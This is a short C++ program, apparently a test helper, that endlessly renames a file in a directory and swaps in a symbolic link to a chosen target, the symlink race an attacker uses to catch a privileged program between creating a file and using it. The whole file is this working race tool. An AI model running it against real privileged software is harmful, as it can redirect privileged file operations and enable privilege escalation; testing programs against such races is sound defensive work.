// swap_racer FOLDER NAME TARGET: forever, as fast as it can, renames
// FOLDER/NAME away as soon as it exists and puts a symbolic link to TARGET
// in its place for a moment: what an attacker who owns FOLDER does to catch
// a privileged program between making NAME and using it by path.
#include <unistd.h>

#include <cstdio>
#include <string>

int main(int argc, char** argv) {
  if (argc != 4 || ::chdir(argv[1]) < 0) return 2;
  const char* name = argv[2];
  const char* target = argv[3];
  for (unsigned long n = 0;; ++n) {
    std::string away = "gone." + std::to_string(n);
    if (::rename(name, away.c_str()) != 0) continue;
    if (::symlink(target, name) == 0) {
      for (volatile int spin = 0; spin < 20000; ++spin) {
      }
      ::unlink(name);
    }
  }
}
